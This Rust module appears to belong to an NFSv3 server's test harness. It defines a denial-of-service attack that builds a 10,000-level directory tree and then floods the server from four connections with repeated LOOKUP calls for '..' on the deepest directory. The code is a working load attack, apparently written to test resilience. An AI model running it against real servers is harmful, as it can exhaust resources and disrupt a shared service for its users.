//! LOOKUPs of `..` without end, in a directory that lies very deep.

use std::any::Any;
use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::time::Duration;

use rustix::fs::{CWD, Mode, OFlags, mkdirat, openat};
use wire::Procedure;
use wire::nfs3::{DirOp, FileHandle, Procedure as P, lookup};

use super::attack::{Attack, Scene};
use super::calls::{Connection, hostile, record};
use super::strangers::Repeated;
use crate::rpc;

const LEVELS: usize = 10_000;
const CONNECTIONS: usize = 4;
const CALLS: u32 = 100;

pub(super) const ATTACK: Attack = Attack {
    name: "parents",
    about: "4 connections keep 100 LOOKUPs of `..` each outstanding, 10,000 directories deep",
    tree: Some(tree),
    options: &[],
    begin,
};

/// Directories in one another. No path is as long as theirs, so each is made in an open one.
fn tree(top: &Path) -> io::Result<()> {
    let mut dir = openat(CWD, top, OFlags::PATH, Mode::empty())?;
    for _ in 0..LEVELS {
        mkdirat(&dir, "d", Mode::from(0o777))?;
        dir = openat(&dir, "d", OFlags::PATH, Mode::empty())?;
    }
    Ok(())
}

fn begin(scene: &Scene) -> io::Result<Box<dyn Any + Send>> {
    let deepest = deepest(scene.address)?;
    let args = lookup::Args { what: DirOp { dir: deepest, name: b".." } };
    let calls: Vec<u8> =
        (0..CALLS).flat_map(|xid| record(xid, Procedure::Nfs3(P::Lookup), &args)).collect();
    let asking: io::Result<Vec<Repeated>> =
        (0..CONNECTIONS).map(|_| asking(scene.address, calls.clone())).collect();
    Ok(Box::new(asking?))
}

fn deepest(server: SocketAddr) -> io::Result<FileHandle> {
    let mut connection = Connection::to(server)?;
    let mut dir = connection.root()?;
    for _ in 0..LEVELS {
        dir = connection.lookup(dir, b"d")?;
    }
    Ok(dir)
}

/// Asks for all of them, reads the answers, and begins anew.
fn asking(server: SocketAddr, calls: Vec<u8>) -> io::Result<Repeated> {
    let mut stream = hostile(server)?;
    let work = move || drop(ask(&mut stream, &calls));
    Ok(Repeated::start(work, Duration::ZERO))
}

fn ask(stream: &mut TcpStream, calls: &[u8]) -> io::Result<()> {
    stream.write_all(calls)?;
    for _ in 0..CALLS {
        rpc::receive(stream)?;
    }
    Ok(())
}
